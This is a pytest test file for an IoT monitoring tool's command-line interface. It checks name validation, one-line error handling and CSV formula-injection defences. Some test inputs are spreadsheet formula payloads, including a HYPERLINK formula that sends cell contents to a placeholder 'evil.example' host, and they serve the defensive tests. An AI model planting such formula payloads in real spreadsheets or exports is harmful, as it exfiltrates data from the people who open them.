"""Names at every boundary (CLI, CSV import, config) and CSV formula cells.

Issue 14, items 3 and 9: communities ``a/b`` and ``#`` were accepted (the MQTT notifier
then published into another community's topic, or failed), ids accepted a trailing
newline, an invalid id was a traceback (exit 1), and ``=HYPERLINK(...)`` cells went into
and out of the CSV files raw.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from netguard.config import settings_from_data
from netguard.errors import ConfigError
from tests.iot.conftest import ng


def _one_line_error(code: int, out: str) -> None:
    assert code == 2, out
    assert "Traceback" not in out
    lines = out.strip().splitlines()
    assert len(lines) == 1, out
    assert lines[0].startswith("error: ")


@pytest.mark.parametrize("args", [
    ("households", "add", "a b", "--community", "c1"),
    ("households", "add", "h1\n", "--community", "c1"),
    ("households", "add", "h1", "--community", "a/b"),
    ("households", "add", "h1", "--community", "#"),
    ("households", "add", "h1", "--community", "c1", "--label", "x\x00y"),
    ("households", "add", "h1", "--community", "c1", "--label", "x" * 201),
])
def test_invalid_household_input_is_one_line_exit_2(config: Path, args: tuple[str, ...]) -> None:
    _one_line_error(*ng(config, *args))
    _code, out = ng(config, "households", "list", "--json")
    assert json.loads(out) == []


@pytest.mark.parametrize("args", [
    ("sensors", "add", "s/1", "--household", "h1"),
    ("sensors", "add", "s+", "--household", "h1"),
    ("sensors", "add", "s1", "--household", "h1", "--address", "door #1"),
    ("sensors", "add", "s1", "--household", "h1", "--kind", "door\n"),
    ("alerts", "show", "99999999999999999999"),
    ("alerts", "ack", "0", "--by", "me"),
])
def test_invalid_sensor_and_alert_ids_are_one_line_exit_2(config: Path,
                                                         args: tuple[str, ...]) -> None:
    assert ng(config, "households", "add", "h1", "--community", "c1")[0] == 0
    _one_line_error(*ng(config, *args))


def test_valid_unicode_names_are_accepted(config: Path) -> None:
    code, out = ng(config, "households", "add", "B3-1201", "--community", "阳光社区")
    assert code == 0, out
    code, out = ng(config, "sensors", "add", "门磁-1201", "--household", "B3-1201")
    assert code == 0, out


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1,"click")', "+1+2", "-2+3",
                                  "@SUM(A1)", "\t=1", "=1"])
def test_households_import_refuses_formula_cells_naming_the_line(
        config: Path, tmp_path: Path, cell: str) -> None:
    path = tmp_path / "h.csv"
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["id", "community", "label"])
    writer.writerow(["h1", "c1", "fine"])
    writer.writerow(["h2", "c1", cell])
    path.write_text(out.getvalue())
    code, output = ng(config, "households", "import", str(path))
    _one_line_error(code, output)
    assert "line 3" in output
    assert "formula" in output
    assert json.loads(ng(config, "households", "list", "--json")[1]) == []


def test_households_import_refuses_bad_names(config: Path, tmp_path: Path) -> None:
    path = tmp_path / "h.csv"
    path.write_text("id,community\nh1,c1\nh2,a/b\n")
    code, output = ng(config, "households", "import", str(path))
    _one_line_error(code, output)
    assert "line 3" in output
    assert "invalid community 'a/b'" in output


def test_tickets_export_escapes_formula_cells(config: Path, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    code, out = ng(config, "tickets", "open", "--category", "manual", "--summary", evil,
                   "--site", "@site", "--by", "=ops")
    assert code == 0, out
    target = tmp_path / "tickets.csv"
    code, out = ng(config, "tickets", "export", "--format", "csv", "--output", str(target))
    assert code == 0, out
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert len(rows) == 1
    cells = [v for v in rows[0].values() if v]
    assert "'" + evil in cells
    assert "'@site" in cells
    for value in cells:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize(("path", "data"), [
    ("iot.routes[0].community", {"routes": [{"community": "a/b", "notifiers": ["n1"]}]}),
    ("iot.routes[0].community", {"routes": [{"community": "c1\n", "notifiers": ["n1"]}]}),
    ("iot.notifiers[0].name", {"notifiers": [{"name": "n#1", "type": "console"}]}),
])
def test_config_refuses_bad_names(tmp_path: Path, path: str, data: dict[str, object]) -> None:
    iot = {"notifiers": [{"name": "n1", "type": "console"}], **data}
    with pytest.raises(ConfigError) as info:
        settings_from_data({"store": {"path": str(tmp_path / "x.db")}, "iot": iot})
    assert path in str(info.value)
    assert "invalid" in str(info.value)


def test_config_accepts_the_default_route() -> None:
    settings = settings_from_data({"iot": {
        "notifiers": [{"name": "n1", "type": "console"}],
        "routes": [{"community": "*", "notifiers": ["n1"]},
                   {"community": "阳光社区", "notifiers": ["n1"]}]}})
    assert [r.community for r in settings.iot.routes] == ["*", "阳光社区"]
